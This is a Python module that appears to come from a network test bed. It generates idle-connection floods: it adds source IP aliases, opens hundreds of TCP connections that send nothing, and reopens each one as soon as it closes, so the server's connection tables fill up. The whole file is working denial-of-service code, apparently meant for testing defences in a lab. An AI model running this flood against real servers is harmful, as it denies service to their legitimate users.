# SPDX-License-Identifier: BSD-2-Clause
"""Peers that complete handshakes and send nothing: each that is reset or closed reconnects at once,
so that they fill the tables of connections. scripts/attack has them as "idle-"."""
import select
import socket
import time

from bed import sh

# addresses that hold connections (None: the good client's own), and how many connections each keeps
KINDS = {"one-source": (["192.0.2.60"], 600), "sources": ([f"192.0.2.{i}" for i in range(50, 90)], 15), "good-source": ([None], 600)}


def connect(source, server, port):
    s = socket.socket()
    s.setblocking(False)
    if source:
        s.bind((source, 0))
    s.connect_ex((server, port))
    return s


def hold(kind, server, port, dev, seconds):
    sources, each = KINDS[kind]
    for a in filter(None, sources):
        sh("ip", "addr", "replace", f"{a}/32", "dev", dev)
    end, held, poll, late = time.monotonic() + seconds, {}, select.epoll(), [a for a in sources for _ in range(each)]
    while time.monotonic() < end:
        for a in late[:50]:
            s = connect(a, server, port)
            held[s.fileno()] = s, a
            poll.register(s, select.EPOLLIN | select.EPOLLRDHUP)
        late = late[50:]
        for fd, _ in poll.poll(0.05, 200):
            s, a = held.pop(fd)
            s.close()
            late.append(a)
    for s, _ in held.values():
        s.close()
    for a in filter(None, sources):
        sh("ip", "addr", "del", f"{a}/32", "dev", dev, check=False)
